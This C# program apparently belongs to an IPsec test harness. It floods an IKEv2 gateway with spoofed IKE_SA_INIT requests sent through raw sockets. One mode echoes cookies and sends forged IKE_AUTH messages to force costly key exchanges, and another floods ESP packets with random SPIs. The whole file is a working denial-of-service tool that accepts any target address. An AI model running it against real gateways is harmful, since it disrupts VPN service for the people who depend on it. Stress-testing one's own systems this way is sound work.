// IKE_SA_INIT flooder for tests/interop/harness/ike-flood.sh (issue 12 "Floods"), the fast one: the
// same spoofed RFC 7296 §1.2 requests as ike-flood.py (SA: AES-CBC-128/HMAC-SHA2-256/PRF-HMAC-SHA2-256/
// X25519, KE, Ni; random sources of a documentation prefix, random ports, SPIs and nonces) through a
// raw IP_HDRINCL socket from one thread, so the rate is what one core sends, not what Python's
// interpreter does. Answers arrive on a raw UDP socket (the prefix is routed back as local) and are
// counted by kind: COOKIE (§2.6), a full IKE_SA_INIT response (state created), other.
//   dotnet run IkeFlood.cs -- TARGET_IP SOURCE_PREFIX(a.b.c.0/NN) RATE|max SECONDS [init|auth|esp]
// MODE init (default): the spoofed IKE_SA_INIT flood. auth: the expensive path — every COOKIE is
// echoed (§2.6: an attacker who sees its answers can), and every full IKE_SA_INIT answer gets an
// IKE_AUTH request with an SK payload (§3.14) of random IV, ciphertext and ICV from the same address
// and port, so the gateway completes the Diffie-Hellman exchange, derives the keys and checks an ICV
// for each. esp: ESP-in-UDP (RFC 3948) to port 4500 with random unknown SPIs (RFC 4303 §2.1); any
// answer is counted (RFC 7296 §2.21.4 INVALID_SPI is a MAY; none is expected).
// Prints the key=value lines ike-flood.py prints. A .NET 10 file-based program: no project file.
using System.Buffers.Binary;
using System.Diagnostics;
using System.Net;
using System.Net.Sockets;

if (args.Length is not (4 or 5) || !IPAddress.TryParse(args[0], out var target) || args[1].Split('/') is not [var net, var bitsText]
    || !IPAddress.TryParse(net, out var prefix) || !int.TryParse(bitsText, out var bits) || bits is < 16 or > 30
    || !(args[2] == "max" || long.TryParse(args[2], out _)) || !double.TryParse(args[3], System.Globalization.CultureInfo.InvariantCulture, out var seconds)
    || (args.Length == 5 && args[4] is not ("init" or "auth" or "esp")))
{
    Console.Error.WriteLine("usage: IkeFlood.cs TARGET_IP SOURCE_PREFIX(a.b.c.0/NN, 16-30) RATE|max SECONDS [init|auth|esp]");
    return 2;
}
var mode = args.Length == 5 ? args[4] : "init";
var rate = args[2] == "max" ? long.MaxValue : long.Parse(args[2], System.Globalization.CultureInfo.InvariantCulture);
var first = BinaryPrimitives.ReadUInt32BigEndian(prefix.GetAddressBytes()) + 1;
var hosts = (1u << (32 - bits)) - 2;

// The IKE_SA_INIT request; per packet only the UDP source port, SPIi and the start of Ni change.
byte[] Transform(bool last, byte type, ushort id, byte[]? attr = null)
{
    var t = new byte[8 + (attr?.Length ?? 0)];
    t[0] = last ? (byte)0 : (byte)3;
    BinaryPrimitives.WriteUInt16BigEndian(t.AsSpan(2), (ushort)t.Length);
    t[4] = type;
    BinaryPrimitives.WriteUInt16BigEndian(t.AsSpan(6), id);
    attr?.CopyTo(t, 8);
    return t;
}
byte[] transforms = [.. Transform(false, 1, 12, [0x80, 0x0E, 0x00, 0x80]), .. Transform(false, 2, 5), .. Transform(false, 3, 12), .. Transform(true, 4, 31)];
byte[] proposal = [0, 0, 0, 0, 1, 1, 0, 4, .. transforms];
BinaryPrimitives.WriteUInt16BigEndian(proposal.AsSpan(2), (ushort)proposal.Length);
byte[] sa = [34, 0, 0, 0, .. proposal];                                 // next: KE
BinaryPrimitives.WriteUInt16BigEndian(sa.AsSpan(2), (ushort)sa.Length);
byte[] ke = [40, 0, 0, 40, 0, 31, 0, 0, .. System.Security.Cryptography.RandomNumberGenerator.GetBytes(32)];
byte[] nonce = [0, 0, 0, 36, .. new byte[32]];
byte[] body = [.. sa, .. ke, .. nonce];
var ikeLength = 28 + body.Length;
var packet = new byte[20 + 8 + ikeLength];
var p = packet.AsSpan();
p[0] = 0x45;
BinaryPrimitives.WriteUInt16BigEndian(p[2..], (ushort)packet.Length);
p[8] = 64;
p[9] = 17;
target.GetAddressBytes().CopyTo(p[16..]);
BinaryPrimitives.WriteUInt16BigEndian(p[22..], 500);
BinaryPrimitives.WriteUInt16BigEndian(p[24..], (ushort)(8 + ikeLength));   // UDP checksum 0: none (RFC 768)
var ike = p[28..];
ike[16] = 33;        // next payload: SA
ike[17] = 0x20;      // IKEv2
ike[18] = 34;        // IKE_SA_INIT
ike[19] = 0x08;      // initiator
BinaryPrimitives.WriteUInt32BigEndian(ike[24..], (uint)ikeLength);
body.CopyTo(ike[28..]);
var nonceAt = ikeLength - 32;   // within the IKE message: the start of Ni

// auth mode: Ni is SPIi four times, so a COOKIE answer (which names SPIi) rebuilds the same
// request (the cookie covers Ni, §2.6) with N(COOKIE) in front.
void WriteRequest(Span<byte> ip, uint source, ushort port, ulong spi)
{
    packet.CopyTo(ip);
    BinaryPrimitives.WriteUInt32BigEndian(ip[12..], source);
    BinaryPrimitives.WriteUInt16BigEndian(ip[20..], port);
    BinaryPrimitives.WriteUInt64BigEndian(ip[28..], spi);
    for (var k = 0; k < 4; k++)
        BinaryPrimitives.WriteUInt64BigEndian(ip[(28 + nonceAt + 8 * k)..], spi);
}

// The answer's IP/UDP header swapped into a request from the flood source back to the gateway.
int Reply(Span<byte> into, ReadOnlySpan<byte> answerIp, int ihl, ReadOnlySpan<byte> ikeMessage)
{
    var length = 28 + ikeMessage.Length;
    into[..20].Clear();
    into[0] = 0x45;
    BinaryPrimitives.WriteUInt16BigEndian(into[2..], (ushort)length);
    into[8] = 64;
    into[9] = 17;
    answerIp.Slice(16, 4).CopyTo(into[12..]);     // source: the flood address the answer went to
    answerIp.Slice(12, 4).CopyTo(into[16..]);     // destination: the gateway
    answerIp.Slice(ihl + 2, 2).CopyTo(into[20..]);
    answerIp.Slice(ihl, 2).CopyTo(into[22..]);
    BinaryPrimitives.WriteUInt16BigEndian(into[24..], (ushort)(8 + ikeMessage.Length));
    into[26] = into[27] = 0;
    ikeMessage.CopyTo(into[28..]);
    return length;
}

// ESP-in-UDP (RFC 3948): SPI, sequence number, then IV, ciphertext and ICV as random octets.
var espPacket = new byte[20 + 8 + 8 + 96];
espPacket[0] = 0x45;
BinaryPrimitives.WriteUInt16BigEndian(espPacket.AsSpan(2), (ushort)espPacket.Length);
espPacket[8] = 64;
espPacket[9] = 17;
target.GetAddressBytes().CopyTo(espPacket, 16);
BinaryPrimitives.WriteUInt16BigEndian(espPacket.AsSpan(22), 4500);
BinaryPrimitives.WriteUInt16BigEndian(espPacket.AsSpan(24), (ushort)(espPacket.Length - 20));
System.Security.Cryptography.RandomNumberGenerator.Fill(espPacket.AsSpan(36));

long cookie = 0, full = 0, other = 0, echoed = 0, authSent = 0, authAnswers = 0;
using var stop = new CancellationTokenSource();
var receiver = new Thread(() =>
{
    using var r = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Udp) { ReceiveTimeout = 500 };
    using var back = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw);
    back.SetSocketOption(SocketOptionLevel.IP, SocketOptionName.HeaderIncluded, true);
    var gateway = new IPEndPoint(target, 0).Serialize();
    var buffer = new byte[4096];
    var reply = new byte[4096];
    var random = new Random();
    var request = new byte[packet.Length];
    var auth = new byte[28 + 4 + 16 + 64 + 16];
    while (!stop.IsCancellationRequested)
    {
        int n;
        try
        {
            n = r.Receive(buffer);
        }
        catch (SocketException)
        {
            continue;
        }
        var pkt = buffer.AsSpan(0, n);
        var ihl = (pkt[0] & 0x0F) * 4;
        if (n < ihl + 8 || pkt[9] != 17)
            continue;
        var dst = BinaryPrimitives.ReadUInt32BigEndian(pkt[16..]);
        if (dst < first || dst >= first + hosts)
            continue;   // the legitimate clients' answers
        var sport = BinaryPrimitives.ReadUInt16BigEndian(pkt[ihl..]);
        if (mode == "esp")
        {
            if (sport is 500 or 4500)
                Interlocked.Increment(ref other);
            continue;
        }
        if (n < ihl + 8 + 28 || sport != 500)
            continue;
        var h = pkt[(ihl + 8)..];
        if (h[18] == 35 && (h[19] & 0x20) != 0)
        {
            Interlocked.Increment(ref authAnswers);
            continue;
        }
        if (h[18] != 34 || (h[19] & 0x20) == 0)
            continue;
        if (h[16] == 41 && h.Length >= 36 && BinaryPrimitives.ReadUInt16BigEndian(h[34..]) == 16390)
        {
            Interlocked.Increment(ref cookie);
            var cookieLength = BinaryPrimitives.ReadUInt16BigEndian(h[30..]) - 8;
            if (mode != "auth" || cookieLength is < 1 or > 64 || h.Length < 36 + cookieLength)
                continue;
            // The same request again with N(COOKIE) first (§2.6): SPIi from the answer, Ni from SPIi.
            WriteRequest(request, dst, BinaryPrimitives.ReadUInt16BigEndian(pkt[(ihl + 2)..]), BinaryPrimitives.ReadUInt64BigEndian(h));
            var message = reply.AsSpan(1024);
            var original = request.AsSpan(28);
            original[..28].CopyTo(message);
            message[16] = 41;
            var notifyLength = 8 + cookieLength;
            message[28] = 33;
            message[29] = 0;
            BinaryPrimitives.WriteUInt16BigEndian(message[30..], (ushort)notifyLength);
            message[32] = 0;
            message[33] = 0;
            BinaryPrimitives.WriteUInt16BigEndian(message[34..], 16390);
            h.Slice(36, cookieLength).CopyTo(message[36..]);
            original[28..].CopyTo(message[(28 + notifyLength)..]);
            var total = original.Length + notifyLength;
            BinaryPrimitives.WriteUInt32BigEndian(message[24..], (uint)total);
            var length = Reply(reply, pkt, ihl, message[..total]);
            try
            {
                back.SendTo(reply.AsSpan(0, length), SocketFlags.None, gateway);
                Interlocked.Increment(ref echoed);
            }
            catch (SocketException)
            {
            }
        }
        else if (h[16] == 33)
        {
            Interlocked.Increment(ref full);
            if (mode != "auth")
                continue;
            // IKE_AUTH, message ID 1, one SK payload (next: IDi) of random IV, ciphertext and ICV:
            // valid-looking to everything before the integrity check.
            Span<byte> a = auth;
            h[..16].CopyTo(a);
            a[16] = 46;
            a[17] = 0x20;
            a[18] = 35;
            a[19] = 0x08;
            BinaryPrimitives.WriteUInt32BigEndian(a[20..], 1);
            BinaryPrimitives.WriteUInt32BigEndian(a[24..], (uint)a.Length);
            a[28] = 35;
            a[29] = 0;
            BinaryPrimitives.WriteUInt16BigEndian(a[30..], (ushort)(a.Length - 28));
            random.NextBytes(a[32..]);
            var length = Reply(reply, pkt, ihl, a);
            try
            {
                back.SendTo(reply.AsSpan(0, length), SocketFlags.None, gateway);
                Interlocked.Increment(ref authSent);
            }
            catch (SocketException)
            {
            }
        }
        else
            Interlocked.Increment(ref other);
    }
}) { IsBackground = true };
receiver.Start();

using var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw);
s.SetSocketOption(SocketOptionLevel.IP, SocketOptionName.HeaderIncluded, true);
var to = new IPEndPoint(target, 0).Serialize();
var rng = new Random();
long sent = 0;
var clock = Stopwatch.StartNew();
var end = TimeSpan.FromSeconds(seconds);
while (clock.Elapsed < end)
{
    // Pace in batches of 256: at most RATE per second on average.
    if (rate != long.MaxValue && sent >= clock.Elapsed.TotalSeconds * rate)
    {
        Thread.Sleep(1);
        continue;
    }
    for (var i = 0; i < 256; i++)
    {
        var source = first + (uint)rng.NextInt64(hosts);
        var port = (ushort)(1024 + rng.Next(32768));
        var spi = (ulong)rng.NextInt64() | 1;
        ReadOnlySpan<byte> datagram = p;
        if (mode == "auth")
            WriteRequest(p, source, port, spi);
        else if (mode == "esp")
        {
            // A random SPI above the reserved 1-255 (RFC 4303 §2.1), sequence number 1.
            BinaryPrimitives.WriteUInt32BigEndian(espPacket.AsSpan(12), source);
            BinaryPrimitives.WriteUInt16BigEndian(espPacket.AsSpan(20), port);
            BinaryPrimitives.WriteUInt32BigEndian(espPacket.AsSpan(28), (uint)spi | 0x100);
            BinaryPrimitives.WriteUInt32BigEndian(espPacket.AsSpan(32), 1);
            datagram = espPacket;
        }
        else
        {
            BinaryPrimitives.WriteUInt32BigEndian(p[12..], source);
            BinaryPrimitives.WriteUInt16BigEndian(p[20..], port);
            BinaryPrimitives.WriteUInt64BigEndian(ike, spi);
            BinaryPrimitives.WriteUInt64BigEndian(ike[nonceAt..], (ulong)rng.NextInt64());
        }
        try
        {
            s.SendTo(datagram, SocketFlags.None, to);
            sent++;
        }
        catch (SocketException)
        {
        }
    }
}
var elapsed = clock.Elapsed.TotalSeconds;
Thread.Sleep(1000);   // answers still in flight
stop.Cancel();
receiver.Join();
Console.WriteLine($"flood_sent={sent}");
Console.WriteLine($"flood_pps={sent / elapsed:0}");
Console.WriteLine($"flood_answers_cookie={Interlocked.Read(ref cookie)}");
Console.WriteLine($"flood_answers_sa={Interlocked.Read(ref full)}");
Console.WriteLine($"flood_answers_other={Interlocked.Read(ref other)}");
if (mode == "auth")
{
    Console.WriteLine($"flood_cookies_echoed={Interlocked.Read(ref echoed)}");
    Console.WriteLine($"flood_auth_sent={Interlocked.Read(ref authSent)}");
    Console.WriteLine($"flood_auth_answers={Interlocked.Read(ref authAnswers)}");
}
return 0;
